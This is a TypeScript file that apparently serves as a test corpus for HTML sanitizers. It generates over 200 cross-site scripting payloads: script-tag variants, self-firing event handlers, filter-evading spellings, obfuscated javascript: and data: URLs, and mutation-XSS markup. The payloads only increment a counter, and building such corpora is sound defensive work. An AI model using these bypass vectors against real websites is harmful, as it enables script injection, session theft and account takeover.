/** What a payload does where a browser runs it: it counts itself. */
const code = 'globalThis.__ran=(globalThis.__ran||0)+1';

const scripts = [
  `<script>${code}</script>`,
  `<ScRiPt>${code}</sCrIpT>`,
  `<script/x>${code}</script>`,
  `<script\n>${code}</script >`,
  `<<script>${code}//<</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<script src="data:text/javascript,${code}"></script>`,
  `<script type="module">${code}</script>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${code}"></script></svg>`,
  `<math><script>${code}</script></math>`,
  `<template><script>${code}</script></template>`,
  `<noscript><p title="</noscript><script>${code}</script>"></noscript>`,
  `<textarea><script>${code}</script></textarea><script>${code}</script>`,
  `<title></title><script>${code}</script>`,
  `<!--><script>${code}</script>-->`,
  `<!--[if true]><script>${code}</script><![endif]-->`,
  `<![CDATA[<script>${code}</script>]]>`,
  `<p>글</p><style>@import "data:text/css,*{}"</style><style onload="${code}"></style>`,
];

/** Elements that run a handler without anybody's doing, each with its event. */
const loaders: readonly (readonly [element: string, event: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=x srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['iframe srcdoc="x"', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href="data:text/css,"', 'onload'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=0', 'onfocus'],
  ['p contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['p style="animation:x"', 'onanimationstart'],
  ['p style="transition:all 1s"', 'ontransitionend'],
  ['x', 'onclick'],
  ['table', 'onmouseover'],
  ['td', 'onpointerenter'],
  ['blockquote', 'onwheel'],
];

/** Ways to write a handler past a filter. */
const spellings = [
  (element: string, event: string) => `<${element} ${event}="${code}">`,
  (element: string, event: string) => `<${element} ${event.toUpperCase()}=${code}>`,
  (element: string, event: string) => `<${element}\n${event}\t=\n'${code}'>`,
  (element: string, event: string) => `<${element.replace(/^(\w+) /, '$1/')}/${event}=${code}>`,
];

const schemes = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  ` \u0001javascript:${code}`,
  `java\tscript:${code}`,
  `java&#10;script:${code}`,
  `&#106;avascript:${code}`,
  `javascript&colon;${code}`,
  `vbscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLl9fcmFuPTE8L3NjcmlwdD4=`,
];

const carriers = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
  (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<meta http-equiv="refresh" content="0;url=${address}">`,
];

/** Markup that changes its meaning when it is parsed a second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<listing>&lt;img onerror="${code}" src=x&gt;</listing>`,
  `<noembed><img title="</noembed><img src onerror=${code}>"></noembed>`,
  `<xmp><p title="</xmp><img src onerror=${code}>"></xmp>`,
  `<select><template><img src=x onerror=${code}></template></select>`,
  `<table><caption><img src=x onerror=${code}></table>`,
];

/** Over 200 pieces of HTML, each of which runs a script somewhere; `__ran` of the page counts those that ran. */
export const scriptPayloads: readonly string[] = [
  ...scripts,
  ...loaders.flatMap(([element, event]) => spellings.map((spell) => spell(element, event))),
  ...schemes.flatMap((address) => carriers.map((carry) => carry(address))),
  ...mutations,
];
